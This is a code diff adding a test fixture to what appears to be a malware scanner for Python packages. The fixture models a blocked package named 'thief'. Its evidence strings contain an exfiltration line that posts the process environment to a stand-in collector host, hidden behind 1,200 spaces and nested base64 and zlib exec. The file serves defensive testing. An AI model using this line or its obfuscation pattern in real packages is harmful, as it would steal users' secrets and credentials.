@@ -20,6 +20,7 @@ internal static class SampleVerdicts
         ["clean"] = [Clean("good-1.0-py3-none-any.whl")],
         ["several"] = [Clean("good-1.0-py3-none-any.whl"), Hostile, Held, Missing, Clean("also-2.0-py3-none-any.whl")],
         ["hostile"] = [Hostile],
+        ["behaviour"] = [Behaviour],
         ["text"] = [Payloads],
         ["tree"] = [Tree],
         ["waived"] = [Waived],
@@ -54,6 +55,27 @@ internal static class SampleVerdicts
             new Reason(null, Unread, Ruling.Allow, "weight", null),
             new Reason(Find("sample-note", Severity.Info, CodeContext.None, MemberPlace.Whole, "no consequence", []), null, Ruling.Allow, "table", null)),
         0.5, null, new Pin(ProjectName.Parse("evil"), "1.0"));
+
+    // A finding in a text that is decoded twice, behind three calls, far to the right of a long line.
+    private static AssayedFile Behaviour => new(
+        "thief-1.0-py3-none-any.whl", Inspect("thief-1.0-py3-none-any.whl", '9'),
+        Judge(
+            "thief==1.0", '9', Ruling.Block,
+            new Reason(
+                Find(
+                    "sample-theft", Severity.Critical, CodeContext.Import,
+                    new MemberPlace(["thief/_core.py"], Line: 4, Column: 1_206) { Layers = ["line 7: exec of base64.b64decode", "line 2: exec of zlib.decompress"] },
+                    "Sends the environment to https://collector.example.invalid/{…} when the package is imported",
+                    [
+                        new("line", $"x = 1{new string(' ', 1_200)}urlopen('https://collector.example.invalid/' + name, data=str(dict(environ)).encode())"),
+                        new("target", "https://collector.example.invalid/{…}"),
+                        Evidence.OfLayer(2, "line 2: exec of zlib.decompress", "# 日本\nfrom os import environ\nfrom urllib.request import urlopen\n\nx = 1\n\tname = \"a\"\nmore\nand more\nno more", 4),
+                        Evidence.OfLayer(1, "line 7: exec of base64.b64decode", $"import zlib\nexec(zlib.decompress(b'{new string('x', 300)}'))", 2),
+                    ],
+                    "the package is imported: thief/__init__.py", "imports thief._core (thief/__init__.py:3)", "calls start (thief/_core.py:9)",
+                    "line 7: exec of base64.b64decode", "line 2: exec of zlib.decompress"),
+                null, Ruling.Block, "table", null)),
+        0.5, null, new Pin(ProjectName.Parse("thief"), "1.0"));
 
     private static AssayedFile Held => new(
         "half-1.0.tar.gz", Inspect("half-1.0.tar.gz", 'c', DistributionKind.Sdist),
